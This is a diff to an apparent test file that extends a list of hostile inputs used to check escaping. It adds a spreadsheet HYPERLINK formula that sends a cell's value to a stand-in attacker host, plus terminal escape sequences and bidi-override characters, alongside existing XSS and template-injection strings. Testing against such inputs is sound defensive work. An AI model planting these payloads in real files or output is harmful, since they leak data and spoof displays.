@@ -28,6 +28,8 @@ HOSTILE = (
     "' onmouseover=alert(1) <!-- <script> -->",
     "two\nlines\n\n# a heading\n- an item\n<b>bold</b>",
     "{{ 7*7 }} {% raw %} ${alert(1)} \\u003cb\\u003e",
+    '=HYPERLINK("http://evil.invalid/"&A1)\x1b[2J\x1b]8;;http://evil.invalid/\x07\u202egnp\x9b31m\0',
+    "@SUM(A1)\u2066\x7f",
 )
 
 
